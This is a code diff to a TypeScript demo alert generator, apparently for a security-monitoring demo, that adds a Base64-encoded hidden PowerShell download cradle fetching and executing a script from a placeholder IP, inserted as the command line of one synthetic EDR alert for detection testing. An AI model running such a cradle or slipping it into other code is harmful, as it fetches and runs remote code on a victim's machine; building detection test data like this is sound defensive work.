@@ -42,6 +42,12 @@ export function suricataAlert(n: number, now: number, signature = pick(signature
   };
 }
 
+/**
+ * What an encoded-command alert's sensor saw: `-EncodedCommand` takes Base64 of UTF-16LE, so
+ * only a rule with `wide|base64offset` reads the download cradle inside (infra/demo/rules.yml).
+ */
+const encodedCradle = `powershell.exe -NoP -W Hidden -enc ${Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')", 'utf16le').toString('base64')}`;
+
 export function vigilAlert(n: number, now: number, host: string): object {
   const r = pick(vigilRules, n);
   return {
@@ -50,7 +56,7 @@ export function vigilAlert(n: number, now: number, host: string): object {
     event_time: new Date(now - (n % 3) * 1000).toISOString(),
     source: { product: 'demo-edr', sensor_id: `${host}-agent` },
     observables: { host, user: pick(['alice', 'bob', 'svc-backup'], n), src_ip: `10.1.0.${(n % 30) + 2}`, process: 'powershell.exe' },
-    labels: { environment: 'demo' },
+    labels: r.id === 'edr-1001' ? { environment: 'demo', CommandLine: encodedCradle } : { environment: 'demo' },
   };
 }
 
